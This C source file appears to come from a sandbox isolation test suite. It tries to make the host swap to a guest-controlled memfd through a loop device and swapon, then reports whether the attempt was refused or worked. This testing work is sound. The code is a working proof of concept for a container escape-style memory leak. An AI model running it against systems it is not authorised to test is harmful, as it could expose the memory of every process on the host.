// SPDX-License-Identifier: GPL-2.0-only
// Swap on a file of the guest, by a loop device: memory of all processes would
// be written to it.
#include <linux/loop.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/swap.h>

#include "attack.h"

#define PAGES	64

/* what mkswap(8) writes */
static void make_swap(int fd)
{
	static char page[4096];
	uint32_t *header = (uint32_t *)(page + 1024);

	header[0] = 1;
	header[1] = PAGES - 1;
	memcpy(page + 4086, "SWAPSPACE2", 10);
	NEED(!ftruncate(fd, PAGES * 4096));
	NEED(pwrite(fd, page, sizeof(page), 0) == sizeof(page));
}

int main(void)
{
	int control = open("/dev/loop-control", O_RDWR), file, loop, err;
	char name[32], *swaps;

	if (control < 0)
		refused("/dev/loop-control");
	file = memfd_create("swap", 0);
	NEED(file >= 0);
	make_swap(file);
	snprintf(name, sizeof(name), "/dev/loop%d",
		 ioctl(control, LOOP_CTL_GET_FREE));
	loop = open(name, O_RDWR);
	if (loop < 0 || ioctl(loop, LOOP_SET_FD, file))
		refused(name);
	err = swapon(name, 0) ? errno : 0;
	swaps = get("/proc/swaps");
	swapoff(name);
	ioctl(loop, LOOP_CLR_FD, 0);
	errno = err;
	if (err)
		refused("swapon");
	if (swaps && strstr(swaps, name))
		worked("the host swaps to a file of the guest");
	harmless("no swap");
}
